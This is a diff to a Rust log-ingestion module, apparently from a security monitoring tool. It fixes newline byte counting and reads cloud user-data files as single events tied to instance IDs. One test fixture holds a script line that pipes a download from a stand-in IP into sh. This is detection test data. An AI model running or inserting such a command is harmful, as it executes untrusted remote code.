@@ -124,10 +124,19 @@ impl EventStream {
             return;
         }
         let body = bytes.strip_suffix(b"\n").unwrap_or(bytes);
+        // Only the input's last line can lack its newline, and only the last chunk ends
+        // without one.
+        let unterminated = u64::from(!bytes.ends_with(b"\n"));
+        let last = body.len();
         for line in split_lines(body) {
+            let newline = if offset_of_bytes(body, line) + line.len() == last {
+                1 - unterminated
+            } else {
+                1
+            };
             self.line_no += 1;
             if line.len() > self.opts.max_line_bytes {
-                stats.bytes += line.len() as u64 + 1;
+                stats.bytes += line.len() as u64 + newline;
                 stats.skip(
                     "line too long",
                     &self.input.path,
@@ -138,7 +147,7 @@ impl EventStream {
             }
             // Counted as the line reader counts: without a CRLF's `\r`.
             let line = line.strip_suffix(b"\r").unwrap_or(line);
-            stats.bytes += line.len() as u64 + 1;
+            stats.bytes += line.len() as u64 + newline;
             self.feed_raw(self.line_no, line, out, stats);
         }
     }
@@ -183,13 +192,20 @@ impl EventStream {
             return Ok(false);
         }
         // A Windows event log is binary and only readable whole.
+        // User data (a script, a cloud-config, MIME) is inspected as one document.
         if self.mode == Mode::Start {
-            let evtx = match self.input.reader.fill_buf() {
-                Ok(head) => head.starts_with(crate::sysmon::EVTX_MAGIC),
+            let (evtx, user_data) = match self.input.reader.fill_buf() {
+                Ok(head) => (
+                    head.starts_with(crate::sysmon::EVTX_MAGIC),
+                    crate::framing::is_user_data(head),
+                ),
                 Err(e) => return self.read_failed(e, 1, out, stats),
             };
             if evtx {
                 return self.read_evtx(out, stats);
+            }
+            if user_data {
+                return self.read_user_data(out, stats);
             }
         }
         let mut lines = 0;
@@ -218,9 +234,9 @@ impl EventStream {
                     );
                     self.mode = Mode::Lines;
                 }
-                Line::Complete => {
+                Line::Complete | Line::Unterminated => {
                     self.line_no += 1;
-                    stats.bytes += self.buf.len() as u64 + 1;
+                    stats.bytes += self.buf.len() as u64 + u64::from(r == Line::Complete);
                     self.mode = Mode::Lines;
                     let buf = std::mem::take(&mut self.buf);
                     self.feed_raw(self.line_no, &buf, out, stats);
@@ -230,6 +246,50 @@ impl EventStream {
             lines += 1;
         }
         Ok(true)
+    }
+
+    /// A whole file of user data becomes one event, tied to the instance its path
+    /// names when it names one. Read up to the line limit: user data is tens of KiB on
+    /// every cloud.
+    fn read_user_data(
+        &mut self,
+        out: &mut Vec<Event>,
+        stats: &mut DecodeStats,
+    ) -> Result<bool, ReadError> {
+        self.mode = Mode::Done;
+        let path = self.input.path.clone();
+        let bytes = match read_all_capped(&mut *self.input.reader, self.opts.max_line_bytes) {
+            Ok(b) => b,
+            Err(e) => return self.read_failed(e, 1, out, stats),
+        };
+        let Some(bytes) = bytes else {
+            stats.skip(
+                "document too large",
+                &path,
+                1,
+                format!("user data over {} bytes", self.opts.max_line_bytes),
+            );
+            return Ok(false);
+        };
+        stats.bytes += bytes.len() as u64;
+        let seen = crate::user_data::seen_from_file(&path, &bytes);
+        let dedupe = seen
+            .instance_id
+            .as_ref()
+            .map(|id| format!("user-data:{id}").into_boxed_str());
+        let mut e = Event::new(
+            pullwatch_model::Ts(0),
+            RecordCtx {
+                path: path.clone(),
+                line: 1,
+            }
+            .source(Format::UserData),
+            pullwatch_model::EventKind::UserData(seen),
+        );
+        e.dedupe = dedupe;
+        out.push(e);
+        stats.record(Format::UserData, 1);
+        Ok(false)
     }
 
     fn read_evtx(
@@ -839,6 +899,11 @@ fn skip_decode_error(stats: &mut DecodeStats, ctx: &RecordCtx, format: Format, e
     stats.skip(&reason, &ctx.path, ctx.line, e.to_string());
 }
 
+/// Byte offset of `part` inside `whole`, of which it is a sub-slice.
+fn offset_of_bytes(whole: &[u8], part: &[u8]) -> usize {
+    (part.as_ptr() as usize).saturating_sub(whole.as_ptr() as usize)
+}
+
 /// Byte offset of `part` inside `whole`, when `part` is a sub-slice of it.
 fn offset_of(whole: &str, part: &str) -> Option<usize> {
     let w = whole.as_ptr() as usize;
@@ -1063,6 +1128,45 @@ mod tests {
             "JSON document over 300 bytes; lines 14-24 skipped"
         );
         assert_eq!(st.skipped_total(), 2);
+    }
+
+    #[test]
+    fn a_file_of_user_data_is_one_event_tied_to_the_instance_its_path_names() {
+        let read = |path: &str, data: &[u8]| {
+            let input = Input {
+                path: Arc::from(path),
+                size: None,
+                reader: Box::new(Cursor::new(data.to_vec())),
+            };
+            let mut s = EventStream::new(input, DecodeOptions::default());
+            let (mut out, mut st) = (Vec::new(), DecodeStats::default());
+            while s.fill(&mut out, &mut st, 10).unwrap() {}
+            (out, st)
+        };
+        let script = b"#!/bin/bash\ncurl -fsSL http://198.51.100.23/x.sh | sh\n";
+        let (ev, st) = read(
+            "/var/lib/cloud/instances/i-0abc1234def567890/user-data.txt",
+            script,
+        );
+        assert_eq!(ev.len(), 1);
+        assert_eq!(st.formats[&Format::UserData].records, 1);
+        assert_eq!(st.skipped_total(), 0);
+        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
+            panic!("{ev:?}")
+        };
+        assert_eq!(u.instance_id.as_deref(), Some("i-0abc1234def567890"));
+        assert!(u.content.contains("curl -fsSL"));
+        let (ev, _) = read("saved/i-0abc1234def567890-user-data.sh", script);
+        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
+            panic!("{ev:?}")
+        };
+        assert_eq!(u.instance_id.as_deref(), Some("i-0abc1234def567890"));
+        let (ev, _) = read("boot.sh", script);
+        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
+            panic!("{ev:?}")
+        };
+        assert_eq!(u.instance_id, None);
+        assert_eq!(u.origin, "boot.sh");
     }
 
     #[test]
